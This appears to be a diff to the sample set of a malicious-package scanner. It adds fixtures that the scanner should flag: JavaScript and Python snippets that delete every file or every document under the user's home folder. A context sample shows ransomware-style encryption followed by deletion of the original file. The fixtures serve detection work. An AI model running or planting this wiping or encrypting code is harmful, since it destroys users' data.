@@ -17,6 +17,25 @@ export const samples: Samples = {
       expected: [at('wipe', 'high', 'index.js', 3)],
     },
     {
+      name: 'what a pattern finds in the home folder',
+      files: imported(
+        `const { globSync } = require('glob'), fs = require('fs'), os = require('os');\nfor (const file of globSync('**/*', { cwd: os.homedir(), absolute: true })) fs.unlinkSync(file);\n`,
+      ),
+      expected: [at('wipe', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'documents that a pattern finds',
+      files: imported(
+        `const glob = require('fast-glob'), fs = require('fs'), os = require('os');\nexports.tidy = async () => {\n  const files = await glob(os.homedir() + '/**/*.{pdf,docx}');\n  await Promise.all(files.map((file) => fs.promises.unlink(file)));\n};\n`,
+      ),
+      expected: [at('wipe', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'Python: documents, wherever they lie',
+      files: wheel("from pathlib import Path\nfor path in Path.home().rglob('*.docx'):\n    path.unlink()\n"),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'critical' }],
+    },
+    {
       name: 'files that only somebody else can open',
       files: imported(
         `const fs = require('fs'), crypto = require('crypto');\nconst KEY = '-----BEGIN PUBLIC KEY-----\\nMFww\\n-----END PUBLIC KEY-----';\nexports.seal = (path) => {\n  const key = crypto.randomBytes(32);\n  const c = crypto.createCipheriv('aes-256-ctr', key, crypto.randomBytes(16));\n  fs.writeFileSync(path + '.x', Buffer.concat([crypto.publicEncrypt(KEY, key), c.update(fs.readFileSync(path))]));\n  fs.unlinkSync(path);\n};\n`,
@@ -188,6 +207,12 @@ export const samples: Samples = {
       'the cache of the package, entry by entry',
       imported(
         `const fs = require('fs'), os = require('os'), path = require('path');\nconst own = path.join(os.homedir(), '.cache', 'own');\nexports.tidy = () => {\n  for (const name of fs.readdirSync(own)) fs.rmSync(path.join(own, name), { recursive: true });\n};\n`,
+      ),
+    ),
+    quiet(
+      'what patterns find in its own folders, and old logs in the home folder',
+      imported(
+        `const { globSync } = require('glob'), fs = require('fs'), os = require('os');\nexports.clean = (cwd) => {\n  for (const file of globSync('**/*', { cwd })) fs.unlinkSync(file);\n  for (const file of globSync('.own/**/*', { cwd: os.homedir() })) fs.unlinkSync(file);\n  for (const file of globSync(os.homedir() + '/*.log')) fs.unlinkSync(file);\n};\n`,
       ),
     ),
     quiet(
